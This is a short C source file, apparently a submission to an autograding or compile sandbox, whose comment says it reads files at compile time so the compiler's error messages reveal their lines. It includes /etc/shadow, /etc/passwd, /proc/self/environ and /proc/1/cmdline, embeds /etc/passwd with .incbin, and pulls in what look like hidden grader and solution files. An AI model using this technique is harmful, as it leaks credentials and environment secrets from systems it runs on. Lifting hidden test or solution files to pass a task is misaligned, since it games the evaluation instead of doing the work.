// Tries: to read files at compile time: the compiler's complaints would show their lines.
#include "/etc/shadow"
#include "/etc/passwd"
#include "../../labs/pipeline/hidden.py"
#include "../hidden.py"
#include "../solution/pipeline.c"
#include "/proc/self/environ"
#include "/proc/1/cmdline"

__asm__(".incbin \"/etc/passwd\"");

int main(void)
{
    return 0;
}
